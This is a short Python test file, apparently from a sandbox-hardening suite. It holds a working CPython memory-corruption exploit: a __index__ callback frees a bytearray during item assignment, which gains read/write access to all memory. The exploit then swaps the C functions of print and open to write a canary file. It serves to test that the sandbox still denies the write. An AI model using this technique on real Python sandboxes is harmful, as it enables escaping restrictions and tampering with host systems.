# SPDX-License-Identifier: Apache-2.0
# tries: own all memory by a bytearray that is freed during its own item assignment (P33)
# proof: changed
# expect: openat write deny EACCES @CANARY@/file
# for: ast
#
# `victim[22] = x` finds the buffer, asks x.__index__() for the value, checks the index, then
# stores.  Our __index__ empties the victim: its 64 bytes become the header of a new, empty
# bytearray, which has no buffer yet and so begins at address 0.  The victim grows again,
# elsewhere, to pass the check.  The late store goes to the old place and makes the length of
# `memory` 0x7f000000000000: all that there is, readable and writable, with no import, no banned
# name called and no dunder attribute.  To show it, `print` and `open` exchange their C functions.


class Index:
    def __index__(self):
        global memory
        victim.clear()
        memory = bytearray()
        victim.extend(range(56))
        return 0x7f


victim = bytearray(56)
victim[22] = Index()

for start, end in (16, 32), (48, 56):       # PyCFunctionObject: m_ml and m_self; vectorcall
    a, b = (slice(id(function) + start, id(function) + end) for function in (print, open))
    memory[a], memory[b] = memory[b], memory[a]

try:
    print('@CANARY@/file', 'w').write('PWNED')
except OSError:
    pass
